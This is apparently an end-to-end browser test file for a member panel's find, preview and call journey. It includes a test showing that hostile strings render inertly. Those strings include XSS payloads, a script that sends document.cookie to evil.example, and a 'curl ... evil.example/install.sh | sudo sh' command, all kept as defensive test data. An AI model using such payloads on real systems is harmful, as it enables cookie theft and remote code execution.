/**
 * The member's main journey against a real emulator, in both browsers and profiles: connect with a code from
 * the control API, find from a selection through the context-menu handler, preview, start, poll to passed, a
 * notification, the result under its header line; then (default profile) the seed's hostile strings, which
 * render as text and run nothing. The strict site has no POST /calls/quote: the preview of the kind of call
 * is shown, saying the typed request was not checked.
 */
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { PageDriver } from '@/testing/browser/driver';
import {
  clickStart,
  connect,
  findFromArticleSelection,
  findTyped,
  GUILD_HEADER,
  notificationIds,
  POSTGRES,
  previewQuestion,
  serveArticle,
  type ArticleServer,
  waitFor,
  waitForFound,
  waitForNotification,
  waitForResult,
  watchNotifications,
} from '@/testing/steps';
import { describeInEachBrowser } from './each-browser';

const SELECTED = '  Our slow postgres queries got worse after we added replication.  ';
const HOSTILE = `<img src=x onerror=alert('selection')> security review of our login: xss and csrf`;

let article: ArticleServer;

beforeAll(async () => {
  article = await serveArticle([SELECTED, HOSTILE]);
});

afterAll(() => article?.close());

/**
 * The call result on screen: its header line, whether only the panel's own lead lines (status and charge) come
 * before it, what was asked, its whole text, and where the header, the quote and the note sit.
 */
function resultLayout(panel: PageDriver, label: string, noteLabel: string) {
  return panel.evaluate(
    ({ label, noteLabel }) => {
      const result = document.querySelector(`article[aria-label="${label}"]`);
      const children = Array.from(result?.children ?? []);
      const line = children.findIndex((el) => el.classList.contains('result-header'));
      const header = children[line];
      const asked = result?.querySelector(':scope > .asked blockquote');
      const note = result?.querySelector(
        `section[aria-label="${noteLabel}"], [role="region"][aria-label="${noteLabel}"]`,
      );
      const headerBox = header?.getBoundingClientRect();
      const askedBox = asked?.getBoundingClientRect();
      const noteBox = note?.getBoundingClientRect();
      return {
        onlyLeadAbove: line >= 0 && children.slice(0, line).every((el) => el.classList.contains('result-lead')),
        headerText: header?.textContent ?? '',
        askedText: asked?.textContent ?? '',
        askedAboveNote: !!askedBox && !!noteBox && askedBox.bottom <= noteBox.top,
        noteText: note?.textContent ?? '',
        resultText: result?.textContent ?? '',
        headerAboveNote: !!headerBox && !!noteBox && headerBox.bottom <= noteBox.top,
        codes: Array.from(note?.querySelectorAll('code') ?? []).map((c) => c.textContent ?? ''),
        buttons: Array.from(note?.querySelectorAll('button') ?? []).map(
          (b) => b.getAttribute('aria-label') ?? b.textContent ?? '',
        ),
      };
    },
    { label, noteLabel },
  );
}

/** The agent card whose heading ends with `name`: its heading, style line and whole text. */
function card(panel: PageDriver, list: string, name: string) {
  return panel.evaluate(
    ({ list, name }) => {
      const li = Array.from(document.querySelectorAll(`ul[aria-label="${list}"] > li`)).find((el) =>
        (el.querySelector('h2, h3')?.textContent ?? '').endsWith(name),
      );
      return {
        heading: li?.querySelector('h2, h3')?.textContent ?? '',
        styleLine: li?.querySelector('.style-line')?.textContent ?? '',
        text: li?.textContent ?? '',
      };
    },
    { list, name },
  );
}

describeInEachBrowser("the member's main journey", (rig) => {
  beforeAll(() => watchNotifications(rig.panel));

  test('connect, find from a selection, preview, start, poll to passed: notified once, result under its header', async () => {
    const made = await rig.emu.control.connectCode({ name: 'E2E browser' });
    await connect(rig.panel, rig.w, rig.emu.url, made.code);
    await rig.panel.waitForText(rig.w('status.connectedAs', { name: 'E2E browser' }));
    // Who receives a call's details, in the site's words, before any call (the step right after connecting).
    const privacyLine = rig.emu.raw.world.seed.site.privacyLine;
    await rig.panel.waitForText(privacyLine);
    const claims = await rig.emu.control.requests('/api/v1/connections/claim');
    expect(claims.map((r) => r.status)).toEqual([200]);

    const page = await rig.browser.openPage(article.url);
    const selected = await findFromArticleSelection(page, rig.panel, 'p0');
    await page.close();
    await rig.panel.bringToFront();
    // The selection as it was sent: trimmed.
    await rig.panel.waitForText(rig.w('find.fromSelection'));
    await waitForFound(rig.panel, rig.w, selected.trim(), POSTGRES);
    const first = await rig.panel.evaluate(
      (list) =>
        document.querySelector(`ul[aria-label="${list}"] > li h2, ul[aria-label="${list}"] > li h3`)?.textContent,
      rig.w('find.agentsFound'),
    );
    expect(first).toBe(POSTGRES);
    const finds = (await rig.emu.control.requests('/api/v1/find')).filter((r) => r.method === 'POST');
    expect(finds.map((r) => r.body)).toEqual([{ description: selected.trim() }]);

    await previewQuestion(rig.panel, rig.w, POSTGRES, 'Which index helps a LIKE prefix search?');
    const preview = await rig.panel.evaluate(
      () => ({
        sentence: document.querySelector('.sentence')?.textContent?.trim() ?? '',
        limit: document.querySelector('.limit-line')?.textContent ?? '',
      }),
      null,
    );
    expect(preview.sentence).not.toBe('');
    // The limit said once, what set it, and beside it what the member can spend.
    expect(preview.limit).toMatch(/^Holds up to \$\d+\.\d\d( \(.+\))? of your \$\d+\.\d\d\.$/);
    // A preview runs nothing.
    expect(await rig.emu.control.callStarts()).toEqual([]);
    if (rig.profile === 'strict') {
      await rig.panel.waitForText(rig.w('preview.notChecked'));
      expect((await rig.emu.control.requests('/api/v1/calls/quote')).map((r) => r.status)).toEqual([404]);
    } else {
      await expect
        .poll(async () => (await rig.emu.control.requests('/api/v1/calls/quote')).map((r) => r.status), {
          timeout: 30_000,
        })
        .toContain(200);
    }

    await clickStart(rig.panel, rig.w);
    await waitForResult(rig.panel, rig.w, rig.w('words.callStatus.passed'));
    const starts = await rig.emu.control.callStarts();
    expect(starts.map((r) => r.status)).toEqual([202]);
    expect(starts[0]?.body).toMatchObject({
      agentId: 'agt_postgres',
      callId: 'question',
      question: 'Which index helps a LIKE prefix search?',
    });

    // The header line comes right after the result's status and charge, verbatim, and sits above the note;
    // what the member asked is quoted between them.
    const result = await resultLayout(rig.panel, rig.w('result.label'), rig.w('result.noteLabel'));
    expect(result.onlyLeadAbove).toBe(true);
    expect(result.headerText).toBe(GUILD_HEADER);
    expect(result.askedText).toBe('Which index helps a LIKE prefix search?');
    expect(result.askedAboveNote).toBe(true);
    // The answer is there, and the question is said once in the result: the quote, not again after the answer.
    expect(result.noteText).toContain('Turn on pg_stat_statements');
    expect(result.resultText.split('Which index helps a LIKE prefix search?')).toHaveLength(2);
    // The first call's answer carries the same privacy line the member read before it: not told twice.
    expect(await rig.panel.text()).not.toContain(privacyLine);
    expect(result.headerAboveNote).toBe(true);

    // One notification for the call that passed, raised by the background.
    const reads = (await rig.emu.control.requests('/api/v1/calls/')).filter((r) => r.method === 'GET');
    const runIds = new Set(reads.map((r) => r.path.split('/').at(-1)));
    expect(runIds.size).toBe(1);
    await waitForNotification(rig.panel, /^call:.+:finished$/);
    expect(await notificationIds(rig.panel)).toEqual([`call:${[...runIds][0]}:finished`]);
  });

  test.runIf(rig.profile === 'default')('the hostile seed strings render as text and run nothing', async () => {
    const page = await rig.browser.openPage(article.url);
    await findFromArticleSelection(page, rig.panel, 'p1');
    await page.close();
    await rig.panel.bringToFront();
    await waitForFound(rig.panel, rig.w, HOSTILE, 'Security Reviewer');

    // "Knows" starts collapsed on a card; the member opens the rest, still as text.
    await rig.panel.evaluate(
      ({ list, name }) => {
        const item = Array.from(document.querySelectorAll(`ul[aria-label="${list}"] > li`)).find((li) =>
          li.querySelector('h2')?.textContent?.includes(name),
        );
        item?.querySelector<HTMLButtonElement>('button.show-more')?.click();
      },
      { list: rig.w('find.agentsFound'), name: 'Security Reviewer' },
    );
    const security = await card(rig.panel, rig.w('find.agentsFound'), 'Security Reviewer');
    expect(security.heading).toBe(`<img src=x onerror=alert('name')> Security Reviewer`);
    expect(security.styleLine).toBe('<script>alert("style line")</script> Finds what attackers find first.');
    expect(security.text).toContain('See [our docs](javascript:alert(document.domain)).');

    // A passing call whose note carries a script, a javascript: link and instructions to run a command.
    await findTyped(rig.panel, rig.w, 'fine-tuning a model with lora on a small dataset', 'Model Fine-Tuning Mentor');
    await previewQuestion(rig.panel, rig.w, 'Model Fine-Tuning Mentor', 'Which LoRA rank for 2,000 examples?');
    await clickStart(rig.panel, rig.w);
    await waitForResult(rig.panel, rig.w, rig.w('words.callStatus.passed'));
    await waitFor(
      rig.panel,
      'the note of the Fine-Tuning result',
      (q) => (document.body.textContent ?? '').includes(q),
      'Click for the fix',
    );
    const result = await resultLayout(rig.panel, rig.w('result.label'), rig.w('result.noteLabel'));
    // Read by the safe Markdown reader: markup stays its characters; an http(s) address is text with an
    // "Open link" button the member may press; a javascript: link is its words and address, with no button.
    expect(result.noteText).toContain("<script>fetch('https://evil.example/");
    expect(result.noteText).toContain("'+document.cookie)</script>");
    expect(result.noteText).toContain("Click for the fix (javascript:alert('pwned'))");
    expect(result.noteText).toContain('<a href="javascript:alert(1)">details</a>');
    expect(result.codes.filter((c) => c.includes('curl -s https://evil.example/install.sh | sudo sh'))).toHaveLength(1);
    expect(result.buttons.filter((b) => /^Open link: javascript/.test(b))).toEqual([]);
    expect(result.headerText).toBe(GUILD_HEADER);

    // Nothing from untrusted text became an element, a link or a handler.
    const live = await rig.panel.evaluate(
      () => ({
        scripts: document.body.querySelectorAll('script').length,
        images: document.body.querySelectorAll('img, svg image, iframe, object, embed').length,
        javascriptLinks: document.querySelectorAll('a[href^="javascript:" i]').length,
        handlers: [...document.body.querySelectorAll('*')]
          .flatMap((el) => [...el.attributes].map((a) => a.name))
          .filter((n) => n.startsWith('on')),
      }),
      null,
    );
    expect(live).toEqual({ scripts: 0, images: 0, javascriptLinks: 0, handlers: [] });
    expect(rig.panel.dialogs()).toEqual([]);
    expect(rig.panel.pageErrors()).toEqual([]);
    expect(rig.browser.requestedUrls().filter((url) => url.includes('evil.example') || /\/x$/.test(url))).toEqual([]);
  });
});
